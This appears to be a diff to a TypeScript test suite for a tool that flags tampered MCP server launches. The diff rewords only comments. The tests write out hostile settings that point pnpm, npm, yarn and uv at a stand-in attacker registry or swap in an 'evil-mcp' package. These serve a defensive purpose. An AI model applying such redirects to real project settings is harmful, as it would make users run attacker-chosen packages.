@@ -1,6 +1,6 @@
 /*
- * One reading for an option, a variable and a line of settings: variants of the rule that none of the
- * tables was made from, and honest launches that use the same settings.
+ * Tests that an option, a variable and a settings line are read alike. The cases are variants of the rule
+ * that no table was made from, and honest launches that use the same settings.
  */
 import { describe } from 'vitest';
 import { type Case, type Files, good, mcp, playCases } from './cases.ts';
@@ -17,18 +17,18 @@ function entry(line: string, env: Readonly<Record<string, string>> = {}): Files 
   return mcp({ command, args, ...(Object.keys(env).length > 0 ? { env } : {}) });
 }
 
-/** Options that come to a launch. */
+/** Returns a change that adds options to a launch. */
 function given(before: string, after: string, expected: Case['expected'], files: Files = {}): Case {
   return { name: after, base: { ...files, ...entry(before) }, head: entry(after), expected };
 }
 
-/** Files that come to a launch. */
+/** Returns a change that adds files around a launch. */
 function around(line: string, files: Files, expected: Case['expected'], base: Files = {}): Case {
   const name = `${line} beside ${JSON.stringify(files)}`;
   return { name, base: { ...base, ...entry(line) }, head: files, expected };
 }
 
-/** Variables that come to a launch. */
+/** Returns a change that adds variables to a launch. */
 function set(
   line: string,
   env: Readonly<Record<string, string>>,
@@ -55,7 +55,7 @@ const project: Files = { 'sub/uv.toml': `index-url = "${evil}"\n`, 'sub/server.p
 
 describe('hostile', () => {
   playCases([
-    // Any setting of pnpm, scopes among them.
+    // Any pnpm setting, including scopes.
     given(dlx, `pnpm --config.registry=${evil} dlx ${notes}`, altered),
     given(dlx, `pnpm dlx --config.@fictional-mcp:registry=${evil} ${notes}`, altered),
     given(dlx, `pnpm dlx --@fictional-mcp:registry=${evil} ${notes}`, altered),
@@ -68,7 +68,7 @@ describe('hostile', () => {
       { 'pnpm-workspace.yaml': `registries:\n  "@fictional-mcp": ${evil}\n` },
       /altered-launch/,
     ),
-    // As pnpm 12 did with each: it ran the other package.
+    // The results match pnpm 12, which ran the other package each time.
     around(
       dlx,
       { 'pnpm-workspace.yaml': 'overrides:\n  "@fictional-mcp/notes": npm:evil-mcp@1.0.0\n' },
@@ -110,7 +110,7 @@ describe('hostile', () => {
     given(yarnDlx, `yarn dlx --modules-folder=./m ${notes}`, altered, { 'm/x.js': '' }),
     given(yarnDlx, `yarn dlx --global-folder=./m ${notes}`, altered, { 'm/x.js': '' }),
     set(yarnDlx, { YARN_DEFAULT_PROTOCOL: 'npm:evil@' }, altered),
-    // Of a variable npm folds the scope, whichever file sets it.
+    // npm folds the scope in a variable's name, whichever file sets the variable.
     around(
       `npx ${notes}`,
       {
@@ -179,7 +179,7 @@ describe('hostile', () => {
 
 describe('honest', () => {
   playCases([
-    // Only Yarn 1 reads such a key.
+    // Only Yarn 1 reads this key.
     around(dlx, { '.npmrc': '--dlx.registry=https://npm.evil.example/\n' }, 'unchanged'),
     given(docker, `docker run -i --platform linux/amd64 ${maps}`, 'changed: unscannable'),
     set(docker, { DOCKER_DEFAULT_PLATFORM: 'linux/amd64' }, 'unchanged'),
